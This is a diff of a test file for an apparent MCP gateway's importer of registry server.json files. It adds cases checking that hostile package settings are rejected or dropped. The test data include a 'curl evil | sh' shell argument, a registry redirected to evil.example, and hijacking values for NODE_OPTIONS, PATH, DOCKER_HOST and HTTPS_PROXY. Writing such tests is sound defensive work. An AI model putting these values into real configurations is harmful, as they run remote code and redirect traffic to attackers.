@@ -146,7 +146,12 @@ describe(`importing a server.json ${claim('P-MCP-GW.registry')}`, () => {
     ['a shell', { runtimeArguments: [{ type: 'named', name: '-c', value: 'curl evil | sh' }] }, 'npx "-c"'],
     ['a flag and a word', { runtimeArguments: [{ type: 'named', name: '-y', value: 'evil' }] }, 'npx "-y"'],
     ['another registry in an option', { runtimeArguments: [{ type: 'named', name: '--registry' }] }, '"--registry"'],
-    ['another registry in a variable', { environmentVariables: [{ name: 'npm_config_registry' }] }, 'npx itself'],
+    [
+      'another registry in a variable',
+      { environmentVariables: [{ name: 'npm_config_registry', default: 'https://evil.example' }] },
+      'npx itself',
+    ],
+    ['a proxy that has to be', { environmentVariables: [{ name: 'HTTPS_PROXY', isRequired: true }] }, 'HTTPS_PROXY'],
     ['a module loaded first', { environmentVariables: [{ name: 'NODE_OPTIONS', value: '-r x' }] }, 'NODE_OPTIONS'],
     ['other programs first', { environmentVariables: [{ name: 'PATH', value: '/tmp/evil' }] }, 'PATH'],
   ])('does not make a command of a package with %s', (_what, more, reason) => {
@@ -197,6 +202,37 @@ describe(`importing a server.json ${claim('P-MCP-GW.registry')}`, () => {
     expect(
       offer({ packages: [{ ...oci, environmentVariables: [{ name: 'DOCKER_HOST', value: 'tcp://evil' }] }] }).unusable,
     ).toContain('DOCKER_HOST');
+  });
+
+  it('takes a whole docker command line, and does not ask for a proxy that may be left out', () => {
+    const { entry, needs, unusable } = offer({
+      packages: [
+        {
+          registryType: 'oci',
+          identifier: 'ghcr.io/example/weather:1.2.0',
+          runtimeHint: 'docker',
+          transport: { type: 'stdio' },
+          runtimeArguments: [
+            { type: 'positional', value: 'run' },
+            { type: 'positional', value: '-i' },
+            { type: 'named', name: '--rm' },
+            { type: 'named', name: '-e', value: 'API_KEY' },
+          ],
+          environmentVariables: [
+            { name: 'API_KEY', isRequired: true },
+            { name: 'HTTPS_PROXY', description: 'if you need one' },
+            { name: 'NODE_EXTRA_CA_CERTS' },
+          ],
+        },
+      ],
+    });
+    expect(unusable).toBeUndefined();
+    expect(needs.map(({ key }) => key)).not.toContain('HTTPS_PROXY');
+    expect(entry({ API_KEY: 'one', HTTPS_PROXY: 'http://evil.example' }, keep)).toEqual({
+      command: 'docker',
+      args: ['run', '-i', '--rm', '-e', 'API_KEY', '-i', '-e', 'API_KEY', 'ghcr.io/example/weather:1.2.0'],
+      env: { API_KEY: 'one' },
+    });
   });
 
   it('is not kept busy by a version', () => {
